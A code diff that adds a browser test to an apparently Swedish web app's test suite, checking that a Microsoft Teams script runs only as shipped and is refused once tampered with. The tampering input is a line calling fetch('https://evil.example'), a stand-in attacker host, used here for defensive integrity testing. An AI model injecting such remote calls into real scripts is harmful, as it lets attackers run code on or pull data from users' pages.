@@ -142,6 +142,16 @@ async def test_what_is_said_in_the_chat_appears_by_itself(
     await chromium.do("text", has="Kajen rustas upp")
 
 
+async def test_teams_script_is_run_as_microsoft_wrote_it_and_not_otherwise(
+    database: Database, chromium: Chromium
+) -> None:
+    async with Directory().running() as directory, serving(directory, database) as site:
+        await chromium.do("open", url=site.url, language="sv-SE")
+        for added, found in (("", "object"), ("\nfetch('https://evil.example')", "undefined")):
+            assert await chromium.do("script", url=site.url + "/tab", added=added) == found
+        assert await chromium.do("axe") == []
+
+
 async def test_somebody_signs_in(database: Database, chromium: Chromium) -> None:
     await tell(database, TENANT, MAJ)
     async with Directory().running() as directory, serving(directory, database) as site:
